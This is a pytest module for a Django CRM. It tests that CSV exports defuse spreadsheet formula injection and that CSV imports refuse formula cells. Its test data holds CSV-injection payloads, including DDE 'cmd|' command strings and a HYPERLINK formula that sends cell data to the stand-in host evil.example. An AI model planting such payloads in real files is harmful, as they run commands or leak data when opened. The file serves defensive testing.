"""CSV injection: text that a spreadsheet would run as a formula (the rule: ``crm.spreadsheet``).

- Every CSV export of the app defuses it: a piece of a text cell that starts with ``=``, ``+``,
  ``-`` or ``@`` and is not a number begins with ``'``, whether it starts the cell or follows a
  comma, semicolon, tab or line break inside it (German Excel splits ``Acme;=1+1;x`` on the
  semicolons). The exports are found, not listed: every page URL the resolver knows is requested
  (with the queries the report's exports take) and every answer that is CSV is checked, as is
  the admin's "Export selected as CSV" on every model that offers it.
- The CSV import refuses the same cells, with the line and the column (see the docstring of
  ``customers.importers``); numbers and phone numbers still import.
"""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone

from crm.csv_import.errors import ImportFailed
from crm.csv_import.runner import run_import
from crm.spreadsheet import defuse
from customers.models import Account, Contact, Contract
from interactions.models import Interaction
from retention.figures.forms import ACCOUNT_SETS, default_period
from retention.figures.report import EXPORTS

from ..crm.url_walk import endpoints, model_admin_of
from ..factories import (
    ChurnReasonFactory,
    ChurnRecordFactory,
    ContactFactory,
    InteractionFactory,
    OpenProblemFactory,
    RiskFlagFactory,
    SegmentFactory,
    TeamFactory,
    UserFactory,
    make_customer,
)

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "=1+2",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "- cmd|' /C calc'!A0",
    "Acme;=1+1;x",
    "Acme,=1+1",
    "Acme;@SUM(A1)",
    "Notes\n-2+3+cmd|' /C calc'!A0",
    "Notes\r\n\t=1+1",
    "Acme\t+HYPERLINK(1)",
)
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)$")
# Where a spreadsheet may start a cell: at a cell's start and after any of these inside it.
SPLITS = re.compile(r"[,;\t\r\n]+")
# The exports that list accounts: each must show every payload, defused.
ACCOUNT_EXPORTS = {
    "customers:account_list_export",
    "retention:portfolio_export",
    "retention:at_risk_export",
    "retention:report_accounts",
    "admin:customers_account_changelist",
}


def last_month() -> tuple[dt.date, dt.date]:
    end = timezone.localdate().replace(day=1) - dt.timedelta(days=1)
    return end.replace(day=1), end


@pytest.fixture
def poisoned(admin_user):
    """Accounts whose every text a person types is a formula, each a customer since 2024,
    flagged, with a contact, an interaction and a problem; one churned last month for a reason
    named like a formula."""
    start, _end = last_month()
    accounts = []
    for payload in PAYLOADS:
        owner = UserFactory(first_name=payload, last_name="", team=TeamFactory(name=payload))
        account = make_customer(
            since=dt.date(2024, 1, 1),
            name=payload,
            external_id=payload,
            industry=payload,
            segment=SegmentFactory(name=payload),
            owner=owner,
        )
        RiskFlagFactory(account=account, explanation=payload, acknowledged_comment=payload)
        ContactFactory(account=account, name=payload, title=payload, phone=payload)
        InteractionFactory(account=account, summary=payload)
        OpenProblemFactory(account=account, title=payload)
        accounts.append(account)
    churned = make_customer(
        since=dt.date(2024, 1, 1), end_date=start + dt.timedelta(days=3), name="Gone GmbH"
    )
    ChurnRecordFactory(
        account=churned,
        churned_on=start + dt.timedelta(days=4),
        reason=ChurnReasonFactory(name="=1+2"),
    )
    return accounts


def csv_exports(client) -> dict[str, list[tuple[str, str]]]:
    """Every CSV the app hands out, by URL name: [(what was asked, the file's text)]."""
    period = default_period(timezone.localdate())
    queries = {
        "retention:report": [f"?period={period}&export={name}" for name in EXPORTS],
        "retention:report_accounts": [
            f"?set={name}&period={period}&export=accounts" for name in ACCOUNT_SETS
        ],
        "retention:portfolio_export": ["?scope=all"],
        "retention:at_risk_export": ["?status=all"],
    }
    found = {}
    for endpoint in endpoints():
        if endpoint.params or endpoint.is_admin or endpoint.is_api:
            continue
        url = "/" + endpoint.template
        for query in ["", *queries.get(endpoint.name, [])]:
            response = client.get(url + query)
            if response.get("Content-Type", "").startswith("text/csv"):
                found.setdefault(endpoint.name, []).append((url + query, text_of(response)))
    for endpoint in endpoints():
        admin = model_admin_of(endpoint)
        if not endpoint.name.endswith("_changelist") or admin is None:
            continue
        if "export_as_csv" not in admin.get_actions(_request(client)):
            continue
        pks = list(admin.model._default_manager.values_list("pk", flat=True))
        if not pks:
            continue
        url = "/" + endpoint.template
        response = client.post(url, {"action": "export_as_csv", "_selected_action": pks})
        assert response.get("Content-Type", "").startswith("text/csv"), url
        found.setdefault(endpoint.name, []).append((f"{url} (export_as_csv)", text_of(response)))
    return found


def _request(client):
    from django.test import RequestFactory

    request = RequestFactory().get("/admin/")
    request.user = client.user
    return request


def text_of(response) -> str:
    if getattr(response, "streaming", False):
        content = b"".join(response.streaming_content)
    else:
        content = response.content
    return content.decode("utf-8-sig")


def live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run, however it splits them: a piece of a cell (the cell, or
    what follows a comma, semicolon, tab or line break in it) starting with a formula sign
    that is not a number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if any(p[:1] in ("=", "+", "-", "@") and not NUMBER.match(p) for p in SPLITS.split(cell))
    ]


def defused(text: str) -> set[str]:
    """The payloads the file holds as defused cells (``'=1+2``, ``Acme;'=1+1;x``)."""
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    return {p for p in PAYLOADS if any(c.startswith(defuse(p)) for c in cells)}


def test_every_csv_export_defuses_formulas(admin_user, poisoned):
    client = Client()
    client.force_login(admin_user)
    client.user = admin_user
    exports = csv_exports(client)
    missing = ACCOUNT_EXPORTS - exports.keys()
    assert not missing, f"no CSV came from {missing}"
    problems = []
    for name, files in exports.items():
        for asked, text in files:
            if live := live_formulas(text):
                problems.append(f"{asked}: {live}")
        if name in ACCOUNT_EXPORTS:
            shown = set().union(*(defused(text) for _asked, text in files))
            if shown != set(PAYLOADS):
                problems.append(f"{name} shows no defused {set(PAYLOADS) - shown}")
    assert not problems, "\n".join(problems)
    # The report's breakdowns and churn reasons carry the labels people typed, defused.
    report = dict(exports["retention:report"])
    by_industry = next(text for asked, text in report.items() if asked.endswith("industry"))
    assert defused(by_industry) == set(PAYLOADS)
    reasons = next(text for asked, text in report.items() if asked.endswith("churn_reasons"))
    assert "'=1+2" in reasons
    # The admin exports the contacts' and flags' texts defused too.
    assert defused(exports["admin:customers_contact_changelist"][0][1]) == set(PAYLOADS)
    assert defused(exports["admin:retention_riskflag_changelist"][0][1]) == set(PAYLOADS)


def test_negative_numbers_stay_numbers_in_exports(admin_user, poisoned):
    """A number is written as a number: -3 stays -3, not '-3 (the check above lets it pass)."""
    assert not live_formulas("-3,+4,-1.5\n")
    assert live_formulas('-1+1,=A1,"x;@y"\n') == ["-1+1", "=A1", "x;@y"]


# --- the import -------------------------------------------------------------------------------


def lines(*rows: str) -> bytes:
    return ("\n".join(rows) + "\n").encode()


def refused(kind: str, data: bytes) -> list[str]:
    with pytest.raises(ImportFailed) as failed:
        run_import(kind=kind, data=data)
    return [str(error) for error in failed.value.errors]


HYPERLINK = '"=HYPERLINK(""https://evil.example/?""&A1,""Click"")"'


@pytest.mark.parametrize(
    "cell",
    [HYPERLINK, "=1+2", "-1+1", "@SUM(A1)", "+HYPERLINK(1)", "\"-2+3+cmd|' /C calc'!A0\""],
)
@pytest.mark.parametrize("column", ["name", "external_id", "segment", "industry"])
def test_account_import_refuses_a_formula_in_a_text_column(column, cell):
    row = {"name": "Acme GmbH", "external_id": "A-1", "segment": "SMB", "industry": "Retail"}
    row[column] = cell
    errors = refused("accounts", lines(",".join(row), ",".join(row.values())))
    assert len(errors) == 1
    assert errors[0].startswith(f"line 2: {column} ")
    assert "spreadsheet formula" in errors[0]
    assert not Account.objects.exists()


def test_every_bad_row_is_reported_and_nothing_is_written(csm):
    data = lines(
        "name,industry",
        "Good GmbH,Retail",
        f"{HYPERLINK},Retail",
        "Fine AG,@SUM(A1)",
    )
    errors = refused("accounts", data)
    assert [e.split(":")[0] for e in errors] == ["line 3", "line 4"]
    assert "“=HYPERLINK(" in errors[0] and "remove the leading “=”" in errors[0]
    assert "industry “@SUM(A1)”" in errors[1]
    assert not Account.objects.exists()


def test_contacts_and_interactions_refuse_formulas_too(csm):
    account = make_customer(name="Acme GmbH", owner=csm)
    errors = refused("contacts", lines("account,name,title", f"{account.name},Bea,=1+2"))
    assert errors and "title “=1+2”" in errors[0]
    errors = refused(
        "interactions",
        lines(
            "account,kind,occurred_at,author_email,summary",
            f"{account.name},call,2026-01-05 10:00,{csm.email},@SUM(A1)",
        ),
    )
    assert errors and "summary “@SUM(A1)”" in errors[0]
    assert not Contact.objects.exists() and not Interaction.objects.exists()


def test_numbers_phone_numbers_and_bulleted_notes_still_import(csm):
    run_import(kind="accounts", data=lines("name,employees", "Acme GmbH,+120"))
    assert Account.objects.get().employees == 120
    run_import(
        kind="contacts",
        data=lines("account,name,phone", "Acme GmbH,Bea,+49 (30) 1234-56", "Acme GmbH,Cem,-"),
    )
    assert Contact.objects.get(name="Bea").phone == "+49 (30) 1234-56"
    run_import(
        kind="interactions",
        data=lines(
            "account,kind,occurred_at,author_email,summary,notes",
            f'Acme GmbH,call,2026-01-05 10:00,{csm.email},Kick-off,"• called back\n– sent offer"',
        ),
    )
    assert Interaction.objects.get().notes.startswith("• called back")
    run_import(
        kind="contracts",
        data=lines(
            "account,reference,start_date,monthly_value", "Acme GmbH,C-1,2026-01-01,1200.50"
        ),
    )
    assert Contract.objects.get().monthly_value == Decimal("1200.50")


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if not NUMBER.match(p)])
def test_the_import_refuses_every_cell_the_exports_defuse(payload):
    """One rule on both sides: what an export would have to defuse never comes in by a file."""
    data = io.StringIO()
    csv.writer(data).writerows([["name", "industry"], ["Acme GmbH", payload]])

    errors = refused("accounts", data.getvalue().encode())

    assert len(errors) == 1 and "spreadsheet formula" in errors[0]


def test_a_negative_number_is_read_as_a_number_not_refused_as_a_formula(csm):
    make_customer(name="Acme GmbH", owner=csm)
    errors = refused(
        "contracts",
        lines("account,reference,start_date,monthly_value", "Acme GmbH,C-9,2026-01-01,-5"),
    )
    # Refused because a contract's value cannot be negative (the service's rule and words).
    assert errors == ["line 2: monthly_value -5: The monthly value cannot be negative."]


def test_every_csv_writer_of_the_app_is_the_one_in_crm_exports():
    """One writer defuses every cell: a view that writes CSV itself would bypass it."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for app in ("crm", "customers", "interactions", "retention", "demo")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["crm/exports.py"]
